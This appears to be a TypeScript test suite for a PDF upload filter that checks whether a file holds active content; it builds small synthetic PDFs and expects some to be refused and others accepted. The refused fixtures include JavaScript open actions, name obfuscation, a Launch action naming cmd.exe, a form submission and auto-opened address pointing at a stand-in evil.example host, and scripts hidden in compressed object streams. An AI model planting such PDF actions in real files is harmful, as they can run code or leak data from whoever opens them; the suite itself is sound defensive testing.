import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { suite, test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { isActive } from '#server/storage/pdf-activity.ts'

const head = '%PDF-1.7\n'
const tail = '\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'
const catalog = (entries: string) => `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${entries} >>\nendobj\n`
const packed = (objects: string | Buffer, about = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode') =>
  Buffer.concat([
    Buffer.from(`9 0 obj\n<< ${about} /Length 99 >>\nstream\n`),
    typeof objects === 'string' ? deflateSync(objects) : objects,
    Buffer.from('\nendstream\nendobj\n'),
  ])
const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat([head, ...parts, tail].map((part) => Buffer.from(part)))

suite('of a document', () => {
  for (const [name, bytes] of [
    ['a script at the start', pdf(catalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'))],
    [
      'a script by another object',
      pdf(catalog('/OpenAction 5 0 R'), '5 0 obj << /S /JavaScript /JS 6 0 R >> endobj'),
    ],
    ['a name that is disguised', pdf(catalog('/OpenAction << /S /J#61vaScr#69pt >>'))],
    ['what is done when a page is seen', pdf('2 0 obj << /Type /Page /AA << /O 5 0 R >> >> endobj')],
    ['a program', pdf('5 0 obj << /S /Launch /F (cmd.exe) >> endobj')],
    ['a form that is sent', pdf('5 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj')],
    ['another file', pdf(catalog('/Names << /EmbeddedFiles 7 0 R >>'))],
    [
      'an address that is opened at once',
      pdf(catalog('/OpenAction << /S /URI /URI (https://evil.example) >>')),
    ],
    ['a lock', pdf(catalog(''), 'trailer << /Encrypt 8 0 R >>')],
    ['a script among packed objects', pdf(packed('5 0 << /S /JavaScript /JS (x) >>'))],
    [
      'one of a disguised type',
      pdf(packed('5 0 << /S /JavaScript /JS (x) >>', '/Type /Obj#53tm /Filter /FlateDecode')),
    ],
    ['one without a type', pdf(packed('5 0 << /AA 1 0 R >>', '/N 1 /First 4 /Filter [ /FlateDecode ]'))],
    [
      'objects packed twice',
      pdf(packed('5 0 << >>', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]')),
    ],
    [
      'objects that cannot be read',
      pdf(packed(Buffer.from('nothing'), '/Type /ObjStm /Filter /FlateDecode')),
    ],
    ['objects without an end', pdf(packed(Buffer.alloc(20_000_000).toString('latin1')))],
    ['the beginning of a page', pdf('<html><script>alert(1)</script></html>', catalog(''))],
  ] as const)
    test(`${name} is refused`, async () => assert.equal(await isActive(bytes), true))

  for (const [name, bytes] of [
    ['nothing but pages', pdf(catalog(''))],
    ['the page at which it opens', pdf(catalog('/OpenAction [3 0 R /FitH null]'))],
    [
      'that page by another object',
      pdf(catalog('/OpenAction 5 0 R'), '5 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj'),
    ],
    ['that page, written without a space', pdf(catalog('/OpenAction<</Type/Action/D[3 0 R/Fit]/S/GoTo>>'))],
    ['links', pdf('5 0 obj << /Type /Annot /A << /S /URI /URI (https://lifts.example) >> >> endobj')],
    ['packed objects', pdf(packed('5 0 << /Type /Page /A << /S /URI /URI (https://a.example) >> >>'))],
    ['a long row of them', pdf(...Array.from({ length: 9 }, () => packed(`5 0 <<${' '.repeat(999)}>>`)))],
    [
      'bytes of a picture that happen to look so',
      pdf(
        packed('/JS /AA', '/Subtype /Image /Filter /FlateDecode'),
        '6 0 obj << >>\nstream\n/JS /AA\nendstream endobj',
      ),
    ],
  ] as const)
    test(`${name} is taken`, async () => assert.equal(await isActive(bytes), false))

  test('the catalogue of the demo is taken', async () => {
    assert.equal(await isActive(await readFile(new URL('../../demo/catalogue.pdf', import.meta.url))), false)
  })
})
